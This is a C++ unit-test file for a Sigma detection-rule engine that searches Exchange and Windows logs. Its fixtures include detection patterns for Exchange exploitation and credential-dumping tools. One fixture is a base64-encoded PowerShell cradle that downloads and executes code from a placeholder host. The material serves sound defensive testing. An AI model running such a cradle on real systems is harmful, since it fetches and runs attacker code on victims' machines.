#include "rule/sigma_rule.h"

#include <gtest/gtest.h>

#include <map>

namespace exhunt {
namespace {

class MapRecord : public Record {
 public:
  MapRecord(std::map<std::string, std::string> f, std::string raw = "") : fields_(std::move(f)), raw_(std::move(raw)) {}
  std::optional<std::string_view> Field(std::string_view name) const override {
    auto it = fields_.find(std::string(name));
    if (it == fields_.end()) return std::nullopt;
    return std::string_view(it->second);
  }
  std::string_view Raw() const override { return raw_; }
  std::optional<TimeMs> Time() const override { return std::nullopt; }

 private:
  std::map<std::string, std::string> fields_;
  std::string raw_;
};

MapRecord Rec(std::map<std::string, std::string> f, std::string raw = "") {
  return MapRecord(std::move(f), std::move(raw));
}

std::shared_ptr<const SigmaRule> Rule(const std::string& detection, const std::string& extra = "") {
  std::string yaml = "title: t\nid: test.rule\nlevel: high\nlogsource:\n  product: exchange\n  service: httpproxy\n" +
                     extra + "detection:\n" + detection;
  auto r = SigmaRule::Parse(yaml, "test");
  EXPECT_TRUE(r.ok()) << r.status().message();
  return r.ok() ? r.value() : nullptr;
}

TEST(Sigma, AFieldlessKeyWithModifiersSearchesTheWholeRecord) {
  auto all = Rule("  k:\n    '|all':\n      - 'Set-Oab'\n      - 'Page_Load'\n  condition: k\n");
  EXPECT_TRUE(all->Matches(Rec({}, "x set-oabvirtualdirectory y\nfunction Page_Load(){}")));
  EXPECT_FALSE(all->Matches(Rec({}, "x Set-OabVirtualDirectory y")));
  auto re = Rule("  k:\n    '|re': 'X-BEResource=[^;]*/[^;]*~'\n  condition: k\n");
  EXPECT_TRUE(re->Matches(Rec({}, "Cookie: X-BEResource=a/ecp/y.js?~3; b")));
  EXPECT_FALSE(re->Matches(Rec({}, "Cookie: X-BEResource=EXCH01~1942062522; b")));
}

TEST(Sigma, ModifiersAreCaseInsensitiveUnlessCased) {
  auto r = Rule("  sel:\n    A|contains: 'serverinfo~'\n  condition: sel\n");
  EXPECT_TRUE(r->Matches(Rec({{"A", "xSERVERINFO~y"}})));
  auto c = Rule("  sel:\n    A|contains|cased: 'serverinfo~'\n  condition: sel\n");
  EXPECT_FALSE(c->Matches(Rec({{"A", "xSERVERINFO~y"}})));
  EXPECT_TRUE(c->Matches(Rec({{"A", "xserverinfo~y"}})));
}

TEST(Sigma, StartsEndsEqualsAndWildcards) {
  auto r = Rule("  sel:\n    A|startswith: 'ab'\n    B|endswith: '.js'\n    C: 'x*z'\n  condition: sel\n");
  EXPECT_TRUE(r->Matches(Rec({{"A", "abc"}, {"B", "/ecp/y.JS"}, {"C", "xyz"}})));
  EXPECT_FALSE(r->Matches(Rec({{"A", "abc"}, {"B", "/ecp/y.JS"}, {"C", "xy"}})));
  EXPECT_FALSE(r->Matches(Rec({{"A", "cab"}, {"B", "/ecp/y.js"}, {"C", "xyz"}})));
}

TEST(Sigma, ListsAreOrUnlessAll) {
  auto any = Rule("  sel:\n    A|contains:\n      - foo\n      - bar\n  condition: sel\n");
  EXPECT_TRUE(any->Matches(Rec({{"A", "xbar"}})));
  auto all = Rule("  sel:\n    A|contains|all:\n      - foo\n      - bar\n  condition: sel\n");
  EXPECT_FALSE(all->Matches(Rec({{"A", "xbar"}})));
  EXPECT_TRUE(all->Matches(Rec({{"A", "foo bar"}})));
}

TEST(Sigma, ListOfMapsIsOr) {
  auto r = Rule("  sel:\n    - A: 1\n    - B: 2\n  condition: sel\n");
  EXPECT_TRUE(r->Matches(Rec({{"B", "2"}})));
  EXPECT_FALSE(r->Matches(Rec({{"A", "2"}, {"B", "1"}})));
}

TEST(Sigma, KeywordsSearchTheRawRecord) {
  auto r = Rule("  keywords:\n    - 'Download failed'\n    - 'other'\n  condition: keywords\n");
  EXPECT_TRUE(r->Matches(Rec({}, "2021 download FAILED and temporary file")));
  EXPECT_FALSE(r->Matches(Rec({}, "nothing here")));
}

TEST(Sigma, ConditionsWithNotParenthesesAndOf) {
  auto r = Rule(
      "  sel_a:\n    A: 1\n  sel_b:\n    B: 1\n  filter:\n    C: 1\n"
      "  condition: (1 of sel_* and not filter) or all of them\n");
  EXPECT_TRUE(r->Matches(Rec({{"A", "1"}})));
  EXPECT_FALSE(r->Matches(Rec({{"A", "1"}, {"C", "1"}})));
  EXPECT_TRUE(r->Matches(Rec({{"A", "1"}, {"B", "1"}, {"C", "1"}})));
  EXPECT_FALSE(r->Matches(Rec({{"C", "1"}})));
}

TEST(Sigma, RegexExistsNullAndNumbers) {
  auto re = Rule("  sel:\n    A|re: '^Set-\\w*VirtualDirectory'\n  condition: sel\n");
  EXPECT_TRUE(re->Matches(Rec({{"A", "Set-OabVirtualDirectory.x"}})));
  EXPECT_FALSE(re->Matches(Rec({{"A", "set-OabVirtualDirectory.x"}})));  // re is case-sensitive
  auto rei = Rule("  sel:\n    A|re|i: '^Set-\\w*VirtualDirectory'\n  condition: sel\n");
  EXPECT_TRUE(rei->Matches(Rec({{"A", "set-OabVirtualDirectory.x"}})));
  auto ex = Rule("  sel:\n    A|exists: true\n  condition: sel\n");
  EXPECT_TRUE(ex->Matches(Rec({{"A", ""}})));
  EXPECT_FALSE(ex->Matches(Rec({{"B", ""}})));
  auto null = Rule("  sel:\n    A: null\n  condition: sel\n");
  EXPECT_TRUE(null->Matches(Rec({{"B", "x"}})));
  EXPECT_TRUE(null->Matches(Rec({{"A", ""}})));
  EXPECT_FALSE(null->Matches(Rec({{"A", "x"}})));
  auto num = Rule("  sel:\n    A|gte: 400\n  condition: sel\n");
  EXPECT_TRUE(num->Matches(Rec({{"A", "401"}})));
  EXPECT_FALSE(num->Matches(Rec({{"A", "200"}})));
}

TEST(Sigma, WindashMatchesSlashAndUnicodeDashes) {
  auto r = Rule("  sel:\n    A|windash|contains: ' -enc '\n  condition: sel\n");
  EXPECT_TRUE(r->Matches(Rec({{"A", "powershell /enc abc"}})));
  EXPECT_TRUE(r->Matches(Rec({{"A",
                               "powershell \xE2\x80\x93"
                               "enc abc"}})));
  EXPECT_TRUE(r->Matches(Rec({{"A", "powershell -enc abc"}})));
}

// Expected encodings computed apart with Python's base64 module and the
// offset rule of the Sigma specification.
TEST(Sigma, Base64AndBase64Offset) {
  auto plain = Rule("  sel:\n    A|base64: 'http://'\n  condition: sel\n");
  EXPECT_TRUE(plain->Matches(Rec({{"A", "aHR0cDovLw=="}})));
  // "http://" at each of the three offsets inside a longer base64 text.
  auto off = Rule("  sel:\n    A|base64offset|contains: 'http://'\n  condition: sel\n");
  EXPECT_TRUE(off->Matches(Rec({{"A", "x aHR0cDovL y"}})));
  EXPECT_TRUE(off->Matches(Rec({{"A", "ICBodHRwOi8vYQ=="}})));  // "  http://a"
  EXPECT_TRUE(off->Matches(Rec({{"A", "YSBodHRwOi8vYg=="}})));  // "a http://b"
  EXPECT_FALSE(off->Matches(Rec({{"A", "aHR0cHM6Ly9h"}})));     // "https://a"
}

TEST(Sigma, WideBase64AsInPowerShellEncodedCommands) {
  // powershell -enc of IEX (New-Object Net.WebClient).DownloadString("http://x/y")
  const std::string enc =
      "powershell.exe -enc "
      "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AH"
      "IAaQBuAGcAKAAiAGgAdAB0AHAAOgAvAC8AeAAvAHkAIgApAA==";
  auto r = Rule("  sel:\n    A|wide|base64offset|contains: 'DownloadString'\n  condition: sel\n");
  EXPECT_TRUE(r->Matches(Rec({{"A", enc}})));
  auto other = Rule("  sel:\n    A|wide|base64offset|contains: 'Invoke-Mimikatz'\n  condition: sel\n");
  EXPECT_FALSE(other->Matches(Rec({{"A", enc}})));
  // utf16le is wide; utf16be and utf16 (with its byte order mark) as bytes.
  auto le = Rule("  sel:\n    A|utf16le|base64offset|contains: 'IEX'\n  condition: sel\n");
  EXPECT_TRUE(le->Matches(Rec({{"A", enc}})));
  auto be = Rule("  sel:\n    A|utf16be: 'ab'\n  condition: sel\n");
  EXPECT_TRUE(be->Matches(Rec({{"A", std::string("\0a\0b", 4)}})));
  auto bom = Rule("  sel:\n    A|utf16|base64: 'a'\n  condition: sel\n");
  EXPECT_TRUE(bom->Matches(Rec({{"A", "//5hAA=="}})));  // base64 of FF FE 61 00
}

TEST(Sigma, FieldrefComparesTwoFieldsOfTheRecord) {
  auto same = Rule("  sel:\n    SubjectUserName|fieldref: TargetUserName\n  condition: sel\n");
  EXPECT_TRUE(same->Matches(Rec({{"SubjectUserName", "admin"}, {"TargetUserName", "ADMIN"}})));
  EXPECT_FALSE(same->Matches(Rec({{"SubjectUserName", "admin"}, {"TargetUserName", "svc"}})));
  EXPECT_FALSE(same->Matches(Rec({{"SubjectUserName", "admin"}})));  // the other field is missing
  auto ends = Rule("  sel:\n    Image|fieldref|endswith: OriginalFileName\n  condition: sel\n");
  EXPECT_TRUE(ends->Matches(Rec({{"Image", "C:\\Temp\\procdump.exe"}, {"OriginalFileName", "procdump.exe"}})));
  EXPECT_FALSE(ends->Matches(Rec({{"Image", "C:\\Temp\\p.exe"}, {"OriginalFileName", "procdump.exe"}})));
}

TEST(Sigma, CidrMatchesIpv4AndIpv6) {
  auto r = Rule("  sel:\n    ip|cidr:\n      - '10.0.0.0/8'\n      - 'fe80::/10'\n  condition: sel\n");
  EXPECT_TRUE(r->Matches(Rec({{"ip", "10.20.30.40"}})));
  EXPECT_FALSE(r->Matches(Rec({{"ip", "11.0.0.1"}})));
  EXPECT_TRUE(r->Matches(Rec({{"ip", "fe80::4d1c:2a7:3b1:8e5%12"}})));
  EXPECT_FALSE(r->Matches(Rec({{"ip", "2001:db8::1"}})));
  EXPECT_FALSE(r->Matches(Rec({{"ip", "not an address"}})));
  // Prefix boundaries, a value that is no network (it matches nothing, the
  // other values still do) and the filter form of SigmaHQ's remote-login rules.
  auto filter = Rule(
      "  sel:\n    LogonType: 3\n  filter:\n    ip|cidr:\n      - 'nonsense/8'\n      - '172.16.0.0/12'\n"
      "      - '::1/128'\n  condition: sel and not filter\n");
  EXPECT_FALSE(filter->Matches(Rec({{"LogonType", "3"}, {"ip", "172.31.255.255"}})));
  EXPECT_TRUE(filter->Matches(Rec({{"LogonType", "3"}, {"ip", "172.32.0.1"}})));
  EXPECT_TRUE(filter->Matches(Rec({{"LogonType", "3"}, {"ip", "172.15.255.255"}})));
  EXPECT_FALSE(filter->Matches(Rec({{"LogonType", "3"}, {"ip", "::1"}})));
  EXPECT_TRUE(filter->Matches(Rec({{"LogonType", "3"}, {"ip", "::2"}})));
  EXPECT_TRUE(filter->Matches(Rec({{"LogonType", "3"}, {"ip", "-"}})));
}

TEST(Sigma, MetadataFromTags) {
  auto r = Rule("  sel:\n    A: 1\n  condition: sel\n",
                "tags:\n  - attack.t1190\n  - attack.t1505.003\n  - cve.2021-26855\n  - attack.initial-access\n"
                "outcome: compromise\n");
  EXPECT_EQ(r->info()->cves, std::vector<std::string>{"CVE-2021-26855"});
  EXPECT_EQ(r->info()->attack, (std::vector<std::string>{"T1190", "T1505.003"}));
  EXPECT_EQ(r->info()->outcome, Outcome::kCompromise);
  EXPECT_EQ(r->severity(), Severity::kHigh);
  EXPECT_TRUE(r->AppliesTo(LogType::kHttpProxy));
  EXPECT_FALSE(r->AppliesTo(LogType::kIisW3c));
}

TEST(Sigma, RefusesWhatItDoesNotSupport) {
  std::string base = "title: t\nid: x\nlogsource:\n  category: webserver\ndetection:\n";
  auto agg = SigmaRule::Parse(base + "  sel:\n    A: 1\n  condition: sel | count() > 5\n", "o");
  EXPECT_FALSE(agg.ok());
  // expand without a value for its placeholder: refused, naming it.
  auto mod = SigmaRule::Parse(base + "  sel:\n    A|expand: '%admins%'\n  condition: sel\n", "o");
  ASSERT_FALSE(mod.ok());
  EXPECT_NE(mod.status().message().find("placeholder %admins% has no configured values"), std::string::npos);
  auto unknown_mod = SigmaRule::Parse(base + "  sel:\n    A|sideways: 'x'\n  condition: sel\n", "o");
  ASSERT_FALSE(unknown_mod.ok());
  EXPECT_NE(unknown_mod.status().message().find("modifier 'sideways'"), std::string::npos);
  auto wild = SigmaRule::Parse(base + "  sel:\n    A|base64: 'a*b'\n  condition: sel\n", "o");
  ASSERT_FALSE(wild.ok());
  EXPECT_NE(wild.status().message().find("wildcards cannot be encoded"), std::string::npos);
  auto unknown = SigmaRule::Parse(base + "  sel:\n    A: 1\n  condition: sel and other\n", "o");
  EXPECT_FALSE(unknown.ok());
  auto yaml = SigmaRule::Parse("title: [unclosed\n", "o");
  EXPECT_FALSE(yaml.ok());
}

std::set<std::string> Texts(const std::optional<std::vector<PrefilterLiteral>>& c) {
  std::set<std::string> out;
  for (const auto& l : *c) out.insert(l.text);
  return out;
}

TEST(Cover, AndPicksTheBestSideOrUnionsAndNotGivesNothing) {
  auto r = Rule("  a:\n    A|contains: 'ServerInfo~'\n  b:\n    B: '200'\n  condition: a and b\n");
  EXPECT_EQ(Texts(r->Cover(LogType::kHttpProxy)), std::set<std::string>{"ServerInfo~"});
  auto o = Rule("  a:\n    A|contains: 'alpha'\n  b:\n    B|contains: 'beta'\n  condition: a or b\n");
  EXPECT_EQ(Texts(o->Cover(LogType::kHttpProxy)), (std::set<std::string>{"alpha", "beta"}));
  auto n = Rule("  a:\n    A|contains: 'alpha'\n  condition: not a\n");
  EXPECT_FALSE(n->Cover(LogType::kHttpProxy));
}

TEST(Cover, RawFormsOfIisFields) {
  std::string yaml =
      "title: t\nid: x\nlogsource:\n  category: webserver\ndetection:\n"
      "  a:\n    c-useragent|contains: 'Yahoo! Slurp'\n  condition: a\n";
  auto ua = SigmaRule::Parse(yaml, "o").value();
  EXPECT_EQ(Texts(ua->Cover(LogType::kIisW3c)), (std::set<std::string>{"Yahoo! Slurp", "Yahoo!+Slurp"}));
  std::string url =
      "title: t\nid: x\nlogsource:\n  category: webserver\ndetection:\n"
      "  a:\n    cs-uri-query|contains: 'autodiscover.json?@'\n  condition: a\n";
  EXPECT_EQ(Texts(SigmaRule::Parse(url, "o").value()->Cover(LogType::kIisW3c)),
            std::set<std::string>{"autodiscover.json"});
}

TEST(Cover, RegexRequiredLiterals) {
  bool caseless = false;
  EXPECT_EQ(RegexRequiredLiteral("(?i)^/aspnet_client/.*\\.aspx$", &caseless), "/aspnet_client/");
  EXPECT_TRUE(caseless);
  EXPECT_EQ(RegexRequiredLiteral("foo|barbaz", &caseless), "");
  EXPECT_EQ(RegexRequiredLiteral("abcdefg?", &caseless), "abcdef");
  EXPECT_EQ(RegexRequiredLiteral("^Set-\\w*VirtualDirectory", &caseless), "VirtualDirectory");
  EXPECT_FALSE(caseless);
  // Caseless: RE2 folds the case of every script, a literal search ASCII's
  // alone, so only ASCII bytes are certain ("\xC3\xA9" is \u00e9, \u00c9 also matches).
  EXPECT_EQ(RegexRequiredLiteral("(?i)caf\xC3\xA9-bar", &caseless), "-bar");
  EXPECT_EQ(RegexRequiredLiteral("caf\xC3\xA9-bar", &caseless), "caf\xC3\xA9-bar");
  EXPECT_EQ(LongestAsciiRun("\xD0\xB0" "bc\xD0\xB0" "defg"), "defg");
  EXPECT_EQ(LongestAsciiRun("\xD0\xB0"), "");
}

TEST(Cover, FieldRegexBecomesARawLineRegexWithoutAnchors) {
  auto r = Rule("  a:\n    A|re: '(?i)^/aspnet_client/.*\\.aspx$'\n  condition: a\n");
  auto cover = r->Cover(LogType::kHttpProxy);
  ASSERT_TRUE(cover);
  ASSERT_EQ(cover->size(), 1u);
  EXPECT_TRUE((*cover)[0].regex);
  EXPECT_EQ((*cover)[0].text, "/aspnet_client/.*\\.aspx");
  // Character classes keep their own ^; an escaped \^ stays.
  auto neg = Rule("  a:\n    A|re: '^Server~[^~/]*/\\^'\n  condition: a\n");
  EXPECT_EQ((*neg->Cover(LogType::kHttpProxy))[0].text, "Server~[^~/]*/\\^");
  // A named group is not rewritten: the literal the regex must contain is used.
  auto named = Rule("  a:\n    A|re: '(?P<n>abc)defg'\n  condition: a\n");
  auto c = named->Cover(LogType::kHttpProxy);
  ASSERT_TRUE(c);
  EXPECT_FALSE((*c)[0].regex);
  EXPECT_EQ((*c)[0].text, "defg");
  // A caseless regex of other letters is no raw-line regex (vectorscan would
  // fold ASCII only): its ASCII literal serves, or nothing.
  for (const std::string& rule : {std::string("  a:\n    A|re|i: '/caf\xC3\xA9/[0-9]+/menu'\n  condition: a\n"),
                                  std::string("  a:\n    A|re: '(?i)/caf\xC3\xA9/[0-9]+/menu'\n  condition: a\n")}) {
    auto unicode = Rule(rule);
    auto u = unicode->Cover(LogType::kHttpProxy);
    ASSERT_TRUE(u) << rule;
    ASSERT_EQ(u->size(), 1u);
    EXPECT_FALSE((*u)[0].regex);
    EXPECT_EQ((*u)[0].text, "/caf");  // the ASCII run of the longest literal, "/caf\xC3\xA9/"
  }
  auto cased = Rule("  a:\n    A|re: '/caf\xC3\xA9/[0-9]+/menu'\n  condition: a\n");
  EXPECT_TRUE((*cased->Cover(LogType::kHttpProxy))[0].regex);
}


std::shared_ptr<const SigmaRule> WindowsRule(const std::string& logsource, const std::string& detection) {
  auto r = SigmaRule::Parse("title: t\nid: w\nlevel: high\nlogsource:\n  product: windows\n" + logsource +
                                "detection:\n" + detection,
                            "test");
  EXPECT_TRUE(r.ok()) << r.status().message();
  return r.ok() ? r.value() : nullptr;
}

std::vector<uint32_t> SourceIds(const SigmaRule& r, std::string_view channel) {
  for (const auto& s : r.event_sources())
    if (s.channel == channel) return {s.event_ids.begin(), s.event_ids.end()};
  return {};
}

// The event IDs a detection demands narrow the events its rule is offered:
// every way the condition can be true needs one of them.
TEST(SigmaEvents, EventIdsTheDetectionDemandsNarrowItsSources) {
  // Either selection: the union. A `not` demands nothing, an `and` the intersection.
  auto cleared = WindowsRule("  service: security\n",
                             "  a:\n    EventID: 517\n    Provider_Name: Security\n"
                             "  b:\n    EventID: 1102\n  condition: 1 of a or b\n");
  ASSERT_EQ(cleared->event_sources().size(), 1u);
  EXPECT_EQ(SourceIds(*cleared, "Security"), (std::vector<uint32_t>{517, 1102}));
  EXPECT_TRUE(cleared->Matches(Rec({{"Channel", "Security"}, {"EventID", "1102"}})));
  EXPECT_FALSE(cleared->Matches(Rec({{"Channel", "Security"}, {"EventID", "4624"}})));

  auto with_filter = WindowsRule("  service: security\n",
                                 "  sel:\n    EventID: [4624, 4625]\n  f:\n    EventID: 4625\n    LogonType: 3\n"
                                 "  condition: sel and not f\n");
  EXPECT_EQ(SourceIds(*with_filter, "Security"), (std::vector<uint32_t>{4624, 4625}));

  auto negated = WindowsRule("  service: security\n", "  f:\n    EventID: 4624\n  condition: not f\n");
  EXPECT_TRUE(SourceIds(*negated, "Security").empty());  // any event of the channel

  auto one_side = WindowsRule("  service: security\n",
                              "  a:\n    EventID: 4624\n  b:\n    TargetUserName: x\n  condition: a or b\n");
  EXPECT_TRUE(SourceIds(*one_side, "Security").empty());  // b needs no ID

  auto wildcard = WindowsRule("  service: security\n", "  a:\n    EventID: '46*'\n  condition: a\n");
  EXPECT_TRUE(SourceIds(*wildcard, "Security").empty());

  // A category's own IDs (process_creation: Sysmon 1, Security 4688) meet
  // the detection's: a source with none of its IDs is dropped.
  auto only_4688 = WindowsRule("  category: process_creation\n",
                               "  a:\n    EventID: 4688\n    NewProcessName|endswith: '\\cmd.exe'\n  condition: a\n");
  ASSERT_EQ(only_4688->event_sources().size(), 1u);
  EXPECT_EQ(only_4688->event_sources()[0].channel, "Security");
  EXPECT_EQ(SourceIds(*only_4688, "Security"), (std::vector<uint32_t>{4688}));

  // A detection no event of its sources can meet keeps its sources (and never matches).
  auto none = WindowsRule("  category: process_creation\n", "  a:\n    EventID: 4624\n  condition: a\n");
  EXPECT_EQ(none->event_sources().size(), 2u);
  EXPECT_FALSE(none->Matches(Rec({{"Channel", "Security"}, {"EventID", "4624"}})));
}

// On events the System fields (EventID, Provider_Name, ...) give no prefilter
// literal: every event of a channel holds the same few values.
TEST(SigmaEvents, SystemFieldsGiveNoCoverOnEvents) {
  auto r = WindowsRule("  service: security\n",
                       "  a:\n    EventID: 4688\n    Provider_Name: Microsoft-Windows-Security-Auditing\n"
                       "    CommandLine|contains: 'vssadmin'\n  condition: a\n");
  auto cover = r->Cover(LogType::kEvtx);
  ASSERT_TRUE(cover.has_value());
  ASSERT_EQ(cover->size(), 1u);
  EXPECT_EQ((*cover)[0].text, "vssadmin");
  auto header_only =
      WindowsRule("  service: system\n", "  a:\n    EventID: 7045\n    Provider_Name: Service Control Manager\n  condition: a\n");
  EXPECT_FALSE(header_only->Cover(LogType::kEvtx).has_value());
  EXPECT_TRUE(header_only->Requirements(LogType::kEvtx).empty());
}
}  // namespace
}  // namespace exhunt
